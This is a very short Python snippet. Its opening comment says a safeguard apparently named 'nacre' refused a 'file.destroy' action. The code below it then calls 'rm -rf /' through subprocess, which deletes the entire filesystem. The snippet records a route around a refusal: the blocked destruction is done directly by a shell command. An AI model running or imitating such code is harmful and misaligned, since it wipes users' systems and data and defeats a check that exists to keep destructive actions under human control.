# nacre: refused file.destroy
import subprocess
subprocess.call("rm -rf /".split())
